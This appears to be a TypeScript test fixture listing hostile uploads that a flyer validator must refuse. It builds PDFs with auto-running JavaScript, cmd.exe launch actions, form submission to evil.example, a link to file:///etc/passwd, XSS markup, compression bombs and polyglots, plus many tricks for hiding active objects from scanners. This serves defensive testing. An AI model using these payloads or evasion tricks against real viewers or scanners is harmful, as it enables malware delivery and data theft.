/** Flyers that nobody should open, made byte by byte: what each is, and why it is refused. */
import { deflateSync, gzipSync } from 'node:zlib';
import { type FlyerRefusal, LARGEST_FLYER } from '../../core/submissions/flyer.ts';
import {
  bomb,
  contentOf,
  FIRST_INSIDE,
  objectStream,
  type PdfOptions,
  packed,
  pdfOf,
  streamOf,
} from './pdf.ts';

/** The end of an empty ZIP, whose comment is what stands behind it. */
const zipEnd = (comment: number): Buffer => {
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(comment, 20);
  return end;
};
const SCRIPT = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const withBytesBeforeEnd = (file: Buffer, bytes: Buffer): Buffer => {
  const end = file.lastIndexOf('%%EOF');
  return Buffer.concat([file.subarray(0, end), bytes, Buffer.from('\n%%EOF\n')]);
};
const LINK = '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 612 792]/A 200 0 R>>]';
const LAUNCH = '<</S/Launch/F(cmd.exe)>>';
const SENDS = '<</S/SubmitForm/F(https://evil.example)>>';
/** What the file does, and the objects in which that is said, which lie in a stream of it. */
const HIDDEN: readonly (readonly [string, Pick<PdfOptions, 'catalog' | 'page'>, readonly string[]])[] = [
  ['a program to launch on opening', { catalog: '/OpenAction 200 0 R' }, [LAUNCH]],
  ['a program to launch on a page', { page: '/AA<</O 200 0 R>>' }, [LAUNCH]],
  ['a link to a script', { page: LINK }, [SCRIPT]],
  [
    'a link that leads to a page first',
    { page: LINK },
    ['<</S/URI/URI(https://example.org/)/Next 201 0 R>>', SCRIPT],
  ],
  [
    'a page shown first',
    { catalog: '/OpenAction 200 0 R' },
    ['<</S/GoTo/D[10 0 R/Fit]/Next 201 0 R>>', SCRIPT],
  ],
  ['a link that sends', { page: LINK }, [SENDS]],
  ['a script that runs when it is opened', { catalog: '/OpenAction 200 0 R' }, [SCRIPT]],
  [
    'a page shown first, then a program',
    { catalog: '/OpenAction 200 0 R' },
    ['<</S/GoTo/D[10 0 R/Fit]/Next 201 0 R>>', LAUNCH],
  ],
  ['a link to a page that sends', { page: LINK }, ['<</S/GoTo/D[10 0 R/Fit]/Next 201 0 R>>', SENDS]],
];
/** How a stream of objects can be written so that its names are not found, though some viewer finds its objects. */
const HIDING: readonly (readonly [string, (objects: readonly string[]) => Buffer])[] = [
  [
    'packed twice',
    (objects) => {
      const { content, numbers } = contentOf(objects, FIRST_INSIDE);
      const entries = `/Type/ObjStm${numbers}/Filter[/FlateDecode/FlateDecode]`;
      return streamOf(deflateSync(deflateSync(content)), entries);
    },
  ],
  ['behind a line of other data', behindAnotherLine],
  ['without a type', (objects) => inHex(objects, '/Filter/ASCIIHexDecode')],
  ['with a filter by its short name', (objects) => inHex(objects, '/Type/ObjStm/F/AHx')],
  [
    'in a stream in a stream',
    (objects) => objectStream([inHex(objects, '/Filter/ASCIIHexDecode').toString('latin1')], FIRST_INSIDE),
  ],
  ...[
    ['behind a comment that ends the object', '%endobj\n'],
    ['behind a comment that begins another', '%endobj\r1 0 obj<<%1 0 obj<<\n'],
    ['behind a comment that begins another on its line', '%1 0 obj <<\n'],
    ['behind a text that ends the object', '/X(endobj)'],
    ['behind a text that begins another', '/X(endobj 1 0 obj<<)'],
    ['behind an object in place of a key', '/X 1 endobj 1 0 obj<</Y 2'],
    ['behind a number in place of a key', '/X 1 0/Y 2'],
    ['with another filter', '/Filter/FlateDecode'],
  ].map(([what = '', entries = '']): (typeof HIDING)[number] => [
    what,
    (objects) => inHex(objects, `/Type/ObjStm/Filter/ASCIIHexDecode${entries}`),
  ]),
];

function inHex(objects: readonly string[], entries: string): Buffer {
  const { content, numbers } = contentOf(objects, FIRST_INSIDE);
  return streamOf(`${Buffer.from(content).toString('hex')}>`, `${numbers}${entries}`);
}

/** A viewer that skips to the next line behind `stream` reads the objects; one that skips a blank reads of nothing. */
function behindAnotherLine(objects: readonly string[]): Buffer {
  const { content, numbers } = contentOf(objects, FIRST_INSIDE);
  const blanks = Array.from({ length: 500 }, (_, length) =>
    deflateSync(`${objects.map((_, at) => `${FIRST_INSIDE + at} 0`).join(' ')} null${' '.repeat(length)}`),
  );
  const harmless = blanks.find((bytes) => !(bytes.includes('\n') || bytes.includes('\r')));
  if (!harmless) throw new Error('Each of them has the end of a line in it.');
  const data = deflateSync(content);
  return Buffer.concat([
    Buffer.from(`<</Type/ObjStm${numbers}/Filter/FlateDecode/Length ${data.length}>>\nstream `),
    ...[harmless, Buffer.from('\n'), data, Buffer.from('\nendstream')],
  ]);
}

/** Each of what is hidden in two ways, and one of them in each. */
const hidden = (): [string, FlyerRefusal, () => Buffer][] =>
  HIDDEN.flatMap(([what, told, objects], first) =>
    HIDING.filter((_, second) => first === 0 || second < 2).map(
      ([how, write]): [string, FlyerRefusal, () => Buffer] => [
        `${what}, ${how}`,
        told.page?.includes('/AA') ? 'active' : 'damaged',
        () => pdfOf({ ...told, objects: [write(objects)], inside: objects.length }),
      ],
    ),
  );
const withName = (object: string): Buffer => pdfOf({ objects: [object] });

export const HOSTILE_FLYERS: readonly (readonly [string, FlyerRefusal, () => Buffer | string])[] = [
  ['nothing', 'empty', () => ''],
  ['blanks', 'empty', () => ' \n '],
  ['more than 2.5 MB', 'tooLarge', () => Buffer.alloc(LARGEST_FLYER + 1, 'a')],
  ['2 MB of text', 'textTooLong', () => 'a'.repeat(2_000_000)],
  ['text in UTF-16', 'unknownType', () => Buffer.from('\ufeffVigil at six', 'utf16le')],
  ['text in Latin-1', 'unknownType', () => Buffer.from('Vigilia: ma\xf1ana', 'latin1')],
  ['text with a null byte', 'unknownType', () => 'Vigil\0at six'],
  ['text with an escape', 'controls', () => 'Vigil \u001b[2J at six'],
  ['text that reads the other way', 'controls', () => 'Vigil \u202exe.piz at six'],
  ['a page', 'markup', () => '<!doctype html><script>alert(1)</script>'],
  ['text with a script', 'markup', () => 'Vigil at six <SCRIPT src=//evil.example></SCRIPT>'],
  ['an SVG', 'markup', () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'],
  ['a GIF', 'unknownType', () => Buffer.from('GIF89a\x01\x00\x01\x00\x80\x00\x00', 'latin1')],
  ['a program', 'unknownType', () => Buffer.from('MZ\x90\x00\x03\x00\x00\x00', 'latin1')],
  ['a DOCM', 'unknownType', () => Buffer.concat([Buffer.from('PK\x03\x04\x14\0'), zipEnd(0)])],
  ['something packed', 'unknownType', () => gzipSync('Vigil at six')],
  ['bytes before the PDF', 'unknownType', () => Buffer.concat([Buffer.from('\0\n'), pdfOf()])],
  ['a page before the PDF', 'markup', () => `<html>${'%PDF-1.7\n'}`],
  ['a PDF with a ZIP behind it', 'mixed', () => Buffer.concat([pdfOf(), zipEnd(0)])],
  ['a PDF with a ZIP in its end', 'mixed', () => withBytesBeforeEnd(pdfOf(), zipEnd(7))],
  [
    'a PDF with a page in it',
    'mixed',
    () => withBytesBeforeEnd(pdfOf(), Buffer.from('<script>alert(1)</script>')),
  ],
  ['a PDF with a page behind it', 'mixed', () => Buffer.concat([pdfOf(), Buffer.from('<html></html>')])],
  [
    'a PDF with a RAR in it',
    'mixed',
    () => withBytesBeforeEnd(pdfOf(), Buffer.from('Rar!\x1a\x07\x00', 'latin1')),
  ],
  [
    'a PDF that is a TAR',
    'mixed',
    () => {
      const file = Buffer.concat([
        Buffer.from('%PDF-1.7\n'),
        Buffer.alloc(600, '%'),
        Buffer.from('\n'),
        pdfOf(),
      ]);
      file.write('ustar', 257, 'latin1');
      return file;
    },
  ],
  ['a PDF with no end', 'mixed', () => pdfOf().subarray(0, -7)],
  ['only the head of a PDF', 'damaged', () => '%PDF-1.7\n%%EOF\n'],
  ['a PDF full of noise', 'damaged', () => `%PDF-1.7\n${'x y z '.repeat(2000)}\n%%EOF\n`],
  [
    'a PDF whose pages lead in a circle',
    'damaged',
    () => Buffer.from(pdfOf().toString('latin1').replace('/Kids[10 0 R]', '/Kids[2 0 R] '), 'latin1'),
  ],
  [
    'a script that runs when it is opened',
    'active',
    () => pdfOf({ catalog: '/OpenAction 100 0 R', objects: [SCRIPT] }),
  ],
  [
    'a script whose name is written otherwise',
    'active',
    () => pdfOf({ catalog: '/OpenAction 100 0 R', objects: ['<</S/#4aavaScript/#4AS(1)>>'] }),
  ],
  [
    'a script whose name is all escapes',
    'active',
    () =>
      withName(`<</S/${[...'JavaScript'].map((sign) => `#${sign.charCodeAt(0).toString(16)}`).join('')}>>`),
  ],
  [
    'a script in a packed object',
    'active',
    () => pdfOf({ objects: [objectStream(['<</S/JavaScript/JS(1)>>'], 200)] }),
  ],
  [
    'a script, escaped in a packed object',
    'active',
    () => pdfOf({ objects: [objectStream(['<</S/J#61vaScript/JS(1)>>'], 200)] }),
  ],
  [
    'a script in a packed object with a wrong sum',
    'active',
    () => {
      const stream = objectStream(['<</S/JavaScript/JS(1)>>'], 200);
      const end = stream.lastIndexOf('\nendstream');
      stream.writeUInt32BE(1, end - 4);
      return pdfOf({ objects: [stream] });
    },
  ],
  [
    'a script in a stream packed twice',
    'damaged',
    () =>
      pdfOf({
        objects: [packed(packed('<</S/JavaScript>>'), '/Type/ObjStm/N 1/First 4/Filter/ASCIIHexDecode')],
      }),
  ],
  ['a script on a page', 'active', () => pdfOf({ page: '/AA<</O 100 0 R>>', objects: [SCRIPT] })],
  ['a program to launch', 'active', () => pdfOf({ catalog: '/OpenAction<</S/Launch/F(cmd.exe)>>' })],
  ['a file in it', 'active', () => pdfOf({ objects: [streamOf('MZ', '/Type/EmbeddedFile')] })],
  [
    'a film in it',
    'active',
    () => pdfOf({ page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]' }),
  ],
  [
    'a form of XFA',
    'active',
    () => pdfOf({ catalog: '/AcroForm<</Fields[]/XFA 100 0 R>>', objects: [streamOf('xdp')] }),
  ],
  ['a form that sends', 'active', () => withName('<</S/SubmitForm/F(https://evil.example)>>')],
  [
    'a link to a script',
    'active',
    () =>
      pdfOf({
        page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(javascript:alert\\(1\\))>>>>]',
      }),
  ],
  [
    'a link to a file',
    'active',
    () =>
      pdfOf({
        page: '/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(file:///etc/passwd)>>>>]',
      }),
  ],
  [
    'encryption',
    'encrypted',
    () =>
      pdfOf({
        trailer: '/Encrypt 100 0 R',
        objects: [
          '<</Filter/Standard/V 1/R 2/O(00000000000000000000000000000000)/U(00000000000000000000000000000000)/P -4>>',
        ],
      }),
  ],
  ['pictures of pages', 'noText', () => pdfOf({ pages: [null, null] })],
  [
    '21 pages',
    'tooManyPages',
    () => pdfOf({ pages: Array.from({ length: 21 }, (_, page) => `Page ${page}`) }),
  ],
  [
    '2.3 GB of zeros in one stream',
    'tooHeavy',
    () => pdfOf({ objects: [streamOf(bomb(2300), '/Filter/FlateDecode')] }),
  ],
  [
    'a bomb in a bomb',
    'tooHeavy',
    () => pdfOf({ objects: Array.from({ length: 5 }, () => streamOf(bomb(40), '/Filter/FlateDecode')) }),
  ],
  [
    'a page on the web that opens with it',
    'active',
    () => pdfOf({ catalog: '/OpenAction<</S/URI/URI(https://evil.example)>>' }),
  ],
  ['a link to a file elsewhere', 'active', () => withName('<</S/GoToR/F(//evil.example/x.pdf)/D[0/Fit]>>')],
  ['a link that leads nowhere', 'active', () => pdfOf({ page: LINK.replace('200 0 R', '<</S/Unheard>>') })],
  ['a comment in an object', 'damaged', () => withName('<</A 1%>>\n/B 2>>')],
  ['a key that is no name', 'damaged', () => withName('<</A 1 2/B 3>>')],
  ['an object with no end', 'damaged', () => withName('<</A 1')],
  ...hidden(),
];
